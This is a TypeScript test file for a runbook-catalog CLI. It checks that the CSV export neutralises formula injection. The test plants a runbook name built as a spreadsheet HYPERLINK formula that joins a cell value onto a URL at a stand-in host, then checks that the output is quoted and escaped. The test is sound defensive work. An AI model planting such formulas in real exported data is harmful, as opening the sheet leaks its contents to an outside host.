import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from './main.ts';

const REPO = fileURLToPath(new URL('../../../', import.meta.url));
const FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"進ちょく管理")';

let root: string;
beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), 'unyo-catalog-csv-'));
  await cp(path.join(REPO, 'runbooks'), path.join(root, 'runbooks'), { recursive: true });
  const file = path.join(root, 'runbooks/management/incident/002-incident-progress.md');
  await writeFile(file, (await readFile(file, 'utf8')).replace('name: 進ちょく管理', `name: '${FORMULA}'`));
});
afterAll(() => rm(root, { recursive: true, force: true }));

describe('unyo catalog --csv against CSV injection', () => {
  it('writes a runbook named =HYPERLINK(...) as quoted text with a leading quote, never a formula', async () => {
    let stdout = '';
    const code = await main(['catalog', '--csv', '--root', root], { cwd: root, stdout: (t) => (stdout += t), stderr: () => undefined });
    expect(code).toBe(0);
    const line = stdout.split('\r\n').find((l) => l.startsWith('2,'));
    expect(line).toContain(`,"'${FORMULA.replace(/"/g, '""')}",`);
    expect(stdout.split('\r\n').some((l) => l.split(',').some((field) => /^"?[=+\-@]/.test(field)))).toBe(false);
  });
});
